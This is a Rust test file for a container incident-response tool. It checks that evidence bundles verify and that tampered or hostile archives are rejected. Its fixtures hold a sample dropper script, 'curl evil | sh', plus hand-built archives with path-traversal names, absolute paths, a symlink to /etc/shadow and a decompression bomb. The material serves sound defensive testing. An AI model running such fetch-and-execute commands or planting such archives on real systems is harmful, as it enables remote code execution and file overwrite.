//! Evidence bundles: what [`BundleWriter`] writes verifies; every single flipped byte of
//! it, an added byte and a cut are caught; hostile bundles (path escapes, links,
//! duplicates, members not in the manifest, a forged chain, a decompression bomb) are
//! reported, never extracted, never a panic. Also the JSON-lines action log.

#![allow(clippy::unwrap_used)] // tests

use moat_model::response::{
    ActionKind, ActionRecord, ActionSource, BundleManifest, ContainerRef, Outcome, RESPONSE_SCHEMA,
};
use moat_respond::bundle::{
    BundleWriter, MANIFEST, VerifyLimits, chain_link, chain_seed, verify, verify_against,
};
use moat_respond::{ActionLog, JsonlLog};
use sha2::{Digest, Sha256};
use std::io::Write;
use std::path::Path;

fn manifest() -> BundleManifest {
    BundleManifest {
        schema: RESPONSE_SCHEMA,
        container: ContainerRef {
            id: "0123456789abcdef".into(),
            name: "web".into(),
            image: "busybox".into(),
            image_id: "sha256:00".into(),
        },
        host: "h".into(),
        engine: "unix:///x.sock".into(),
        operator: "op".into(),
        moat_version: "0.1.0".into(),
        reason: Some("test".into()),
        started: "2026-01-01T00:00:00Z".into(),
        finished: "2026-01-01T00:00:01Z".into(),
        read_paused: true,
        chain_seed: String::new(),
        chain_head: String::new(),
        files: Vec::new(),
        notes: Vec::new(),
    }
}

fn write_bundle(path: &Path) -> Vec<u8> {
    let mut w = BundleWriter::create(path, 1_700_000_000).unwrap();
    w.add_bytes("container/inspect.json", "inspect", br#"{"Id":"0123"}"#)
        .unwrap();
    w.add_bytes(
        "filesystem/files/tmp/dropper.sh",
        "changed-file",
        b"#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    let tmp = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(tmp.path(), vec![7u8; 3000]).unwrap();
    w.add_file("logs/stdout.log", "logs", tmp.path()).unwrap();
    // Names a bundle can never hold are refused when writing.
    assert!(w.add_bytes("../escape", "x", b"").is_err());
    assert!(w.add_bytes(MANIFEST, "x", b"").is_err());
    assert!(w.add_bytes("logs/stdout.log", "x", b"").is_err());
    let written = w.finish(manifest()).unwrap();
    let bytes = std::fs::read(path).unwrap();
    assert_eq!(written.sha256, hex::encode(Sha256::digest(&bytes)));
    assert_eq!(written.files, 3);
    bytes
}

#[test]
fn a_written_bundle_verifies_and_every_flipped_byte_fails_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("b.tar.gz");
    let bytes = write_bundle(&path);
    assert!(!dir.path().join("b.tar.gz.partial").exists());
    let ok = verify(&path, VerifyLimits::default()).unwrap();
    assert!(ok.ok, "{:?}", ok.problems);
    assert_eq!(ok.verified, 3);
    let m = ok.manifest.unwrap();
    assert_eq!(m.reason.as_deref(), Some("test"));
    let mut head = chain_seed();
    for e in &m.files {
        head = chain_link(&head, &e.path, &e.sha256, e.size);
    }
    assert_eq!(head, m.chain_head);

    // The sidecar holds the file's hash, in `sha256sum` format.
    let side = std::fs::read_to_string(dir.path().join("b.tar.gz.sha256")).unwrap();
    let sha = hex::encode(Sha256::digest(&bytes));
    assert_eq!(side, format!("{sha}  b.tar.gz\n"));
    let c = verify_against(&path, VerifyLimits::default(), Some(&sha)).unwrap();
    assert!(c.ok, "{:?}", c.problems);
    assert_eq!(c.sidecar_sha256.as_deref(), Some(sha.as_str()));

    // Every single flipped byte fails it: against the hashes recorded when it was
    // written (the action log's, the sidecar's) always; by its content alone, wherever
    // the byte is read by a decoder (deflate leaves a few bits unread).
    let copy = dir.path().join("c.tar.gz");
    let mut content_missed = 0;
    for i in 0..bytes.len() {
        let mut b = bytes.clone();
        b[i] ^= 0x20;
        std::fs::write(&copy, &b).unwrap();
        let c = verify_against(&copy, VerifyLimits::default(), Some(&sha)).unwrap();
        assert!(!c.ok, "flip at {i} of {} undetected", bytes.len());
        if verify(&copy, VerifyLimits::default()).unwrap().ok {
            content_missed += 1;
        }
    }
    assert!(
        content_missed * 20 < bytes.len(),
        "{content_missed} of {}",
        bytes.len()
    );
    // A sidecar that disagrees is a problem too.
    std::fs::write(&copy, &bytes).unwrap();
    std::fs::write(dir.path().join("c.tar.gz.sha256"), "00  c.tar.gz\n").unwrap();
    let c = verify_against(&copy, VerifyLimits::default(), None).unwrap();
    assert!(
        !c.ok && c.problems[0].contains("c.tar.gz.sha256"),
        "{:?}",
        c.problems
    );
    std::fs::remove_file(dir.path().join("c.tar.gz.sha256")).unwrap();

    let mut b = bytes.clone();
    b.extend_from_slice(b"trailing");
    std::fs::write(&copy, &b).unwrap();
    let c = verify(&copy, VerifyLimits::default()).unwrap();
    assert!(
        !c.ok && c.problems.iter().any(|p| p.contains("follow")),
        "{:?}",
        c.problems
    );
    for cut in [1, 8, 100, bytes.len() / 2] {
        std::fs::write(&copy, &bytes[..bytes.len() - cut]).unwrap();
        assert!(
            !verify(&copy, VerifyLimits::default()).unwrap().ok,
            "cut {cut}"
        );
    }
}

/// One raw member: name, type, content.
type Member<'a> = (&'a str, tar::EntryType, &'a [u8]);

/// A tar.gz with raw members (name bytes as given, any type), for hostile cases.
fn raw_bundle(path: &Path, members: &[Member<'_>]) {
    let f = std::fs::File::create(path).unwrap();
    let gz = flate2::write::GzEncoder::new(f, flate2::Compression::default());
    let mut t = tar::Builder::new(gz);
    for (name, kind, data) in members {
        let mut h = tar::Header::new_old();
        {
            // Write the name unchecked: the tar crate refuses `..` through set_path.
            let old = h.as_old_mut();
            old.name[..name.len()].copy_from_slice(name.as_bytes());
        }
        h.set_entry_type(*kind);
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        if *kind == tar::EntryType::Symlink {
            h.set_link_name("/etc/shadow").unwrap();
        }
        h.set_cksum();
        t.append(&h, *data).unwrap();
    }
    t.into_inner().unwrap().finish().unwrap();
}

fn manifest_for(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut m = manifest();
    m.chain_seed = chain_seed();
    let mut head = chain_seed();
    for (p, d) in files {
        let sha = hex::encode(Sha256::digest(d));
        head = chain_link(&head, p, &sha, d.len() as u64);
        m.files.push(moat_model::response::ManifestEntry {
            path: p.to_string(),
            size: d.len() as u64,
            sha256: sha,
            chain: head.clone(),
            kind: "x".into(),
        });
    }
    m.chain_head = head;
    serde_json::to_vec(&m).unwrap()
}

#[test]
fn hostile_bundles_are_reported_not_trusted() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("h.tar.gz");
    let reg = tar::EntryType::Regular;
    let good = manifest_for(&[("a.txt", b"A")]);

    // A consistent bundle built by hand verifies (the checks below are not vacuous).
    raw_bundle(&p, &[("a.txt", reg, b"A"), (MANIFEST, reg, &good)]);
    let c = verify(&p, VerifyLimits::default()).unwrap();
    assert!(c.ok, "{:?}", c.problems);

    let cases: Vec<(&str, Vec<Member<'_>>, &str)> = vec![
        (
            "escape",
            vec![
                ("a.txt", reg, b"A"),
                ("../../etc/x", reg, b"x"),
                (MANIFEST, reg, &good),
            ],
            "plain relative path",
        ),
        (
            "absolute",
            vec![
                ("a.txt", reg, b"A"),
                ("/etc/x", reg, b"x"),
                (MANIFEST, reg, &good),
            ],
            "plain relative path",
        ),
        (
            "symlink",
            vec![
                ("a.txt", reg, b"A"),
                ("link", tar::EntryType::Symlink, b""),
                (MANIFEST, reg, &good),
            ],
            "regular files only",
        ),
        (
            "duplicate",
            vec![
                ("a.txt", reg, b"A"),
                ("a.txt", reg, b"B"),
                (MANIFEST, reg, &good),
            ],
            "twice",
        ),
        (
            "added",
            vec![
                ("a.txt", reg, b"A"),
                ("b.txt", reg, b"B"),
                (MANIFEST, reg, &good),
            ],
            "added",
        ),
        ("removed", vec![(MANIFEST, reg, &good)], "removed"),
        (
            "changed",
            vec![("a.txt", reg, b"Z"), (MANIFEST, reg, &good)],
            "changed",
        ),
        (
            "no manifest",
            vec![("a.txt", reg, b"A")],
            "no manifest.json",
        ),
        (
            "bad manifest",
            vec![("a.txt", reg, b"A"), (MANIFEST, reg, b"{not json")],
            "not a manifest",
        ),
    ];
    for (what, members, expect) in cases {
        raw_bundle(&p, &members);
        let c = verify(&p, VerifyLimits::default()).unwrap();
        assert!(!c.ok, "{what}");
        assert!(
            c.problems.iter().any(|x| x.contains(expect)),
            "{what}: {:?}",
            c.problems
        );
    }

    // A forged entry whose hash matches the new content but whose chain does not.
    let mut m: serde_json::Value = serde_json::from_slice(&good).unwrap();
    m["files"][0]["sha256"] = hex::encode(Sha256::digest(b"Z")).into();
    let forged = serde_json::to_vec(&m).unwrap();
    raw_bundle(&p, &[("a.txt", reg, b"Z"), (MANIFEST, reg, &forged)]);
    let c = verify(&p, VerifyLimits::default()).unwrap();
    assert!(
        c.problems.iter().any(|x| x.contains("chain")),
        "{:?}",
        c.problems
    );

    // A decompression bomb stops at the byte limit.
    let big = vec![0u8; 4 << 20];
    raw_bundle(&p, &[("zeros", reg, &big), (MANIFEST, reg, &good)]);
    let small = VerifyLimits {
        max_total_bytes: 1 << 20,
        ..VerifyLimits::default()
    };
    let c = verify(&p, small).unwrap();
    assert!(
        c.problems.iter().any(|x| x.contains("uncompressed")),
        "{:?}",
        c.problems
    );

    // Not gzip at all; an empty file; a missing file is an error naming it.
    std::fs::write(&p, b"plain text, not an archive").unwrap();
    assert!(!verify(&p, VerifyLimits::default()).unwrap().ok);
    std::fs::write(&p, b"").unwrap();
    assert!(!verify(&p, VerifyLimits::default()).unwrap().ok);
    let e = verify(&dir.path().join("missing.tar.gz"), VerifyLimits::default()).unwrap_err();
    assert!(e.to_string().contains("missing.tar.gz"), "{e}");
    // Nothing was extracted next to the bundle.
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names.len(), 1, "{names:?}");
}

fn record(n: u32) -> ActionRecord {
    ActionRecord {
        schema: RESPONSE_SCHEMA,
        id: moat_respond::record_id(),
        action: ActionKind::Isolate,
        container: ContainerRef {
            id: format!("c{n}"),
            name: format!("web{n}"),
            ..ContainerRef::default()
        },
        operator: "op".into(),
        host: "h".into(),
        engine: "unix:///x".into(),
        moat_version: "0".into(),
        source: ActionSource::Monitor {
            rule: "shell-in-container".into(),
            alert: Some("a1".into()),
        },
        started: moat_respond::now_rfc3339(),
        finished: moat_respond::now_rfc3339(),
        reason: Some("why\nnot".into()),
        dry_run: false,
        before: None,
        after: None,
        outcome: Outcome::Done,
        steps: Vec::new(),
        notes: Vec::new(),
        error: None,
        evidence: None,
    }
}

#[test]
fn the_jsonl_log_appends_one_durable_line_per_record() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("sub/actions.jsonl");
    let log = JsonlLog::open(&p).unwrap();
    let (a, b) = (record(1), record(2));
    log.append(&a).unwrap();
    log.append(&b).unwrap();
    assert_ne!(a.id, b.id);
    let text = std::fs::read_to_string(&p).unwrap();
    assert_eq!(
        text.lines().count(),
        2,
        "a newline in a reason stays inside its line"
    );
    assert_eq!(JsonlLog::read(&p).unwrap(), vec![a, b]);
    assert_eq!(
        std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
        0o600
    );
    // A damaged line is an error naming its number.
    std::fs::OpenOptions::new()
        .append(true)
        .open(&p)
        .unwrap()
        .write_all(b"{oops\n")
        .unwrap();
    let e = JsonlLog::read(&p).unwrap_err();
    assert!(e.to_string().contains("line 3"), "{e}");
}
